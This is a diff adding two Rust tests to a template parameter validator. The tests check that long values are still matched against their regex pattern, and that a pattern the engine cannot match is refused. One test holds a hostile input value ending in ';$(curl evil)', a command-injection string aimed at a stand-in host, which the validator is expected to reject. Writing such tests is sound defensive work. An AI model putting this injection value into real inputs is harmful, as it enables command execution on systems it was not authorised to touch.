@@ -483,3 +483,28 @@ fn violations_name_the_constraint() {
         "\"ab\" is 2 characters long, more than the maximum of 1"
     );
 }
+
+#[test]
+fn a_given_value_is_checked_against_its_pattern_whatever_its_length() {
+    let source = "param label: string { pattern = \"^[a-z]+$\" }\n";
+    let long = "a".repeat(100_000);
+    let (infos, diagnostics) = run(source, &[("label", flag(&long))]);
+    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
+    assert_eq!(infos["label"].value, Some(Value::String(long.clone())));
+    let hostile = format!("{long};$(curl evil)");
+    let (infos, diagnostics) = run(source, &[("label", flag(&hostile))]);
+    assert_eq!(codes(&diagnostics), ["E0301"]);
+    assert_eq!(infos["label"].value, None);
+}
+
+#[test]
+fn a_given_value_is_refused_when_its_pattern_cannot_be_matched() {
+    // Left to the target when deploying; but a value given now would be
+    // written into the template unchecked.
+    let source = "param label: string { pattern = \"^(?!admin)[a-z]+$\" }\n";
+    let (_, diagnostics) = run(source, &[]);
+    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
+    let (infos, diagnostics) = run(source, &[("label", flag("admin"))]);
+    assert_eq!(codes(&diagnostics), ["E0324"]);
+    assert_eq!(infos["label"].value, None);
+}
